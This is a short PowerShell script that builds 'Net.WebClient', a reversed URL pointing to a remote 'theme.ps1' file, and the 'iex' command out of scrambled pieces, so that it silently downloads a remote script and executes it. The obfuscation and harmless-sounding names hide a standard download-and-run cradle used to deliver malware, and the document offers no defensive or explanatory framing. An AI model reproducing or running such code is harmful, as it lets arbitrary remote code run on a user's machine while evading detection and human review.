$kind = '{1}{0}' -f 'WebClient', 'Net.'
$where = -join ('1sp.emeht/elpmaxe.sruoloc//:sptth'[32..0])
$text = (New-Object $kind).DownloadString($where)
.($env:ComSpec[4,24,25] -join '') $text
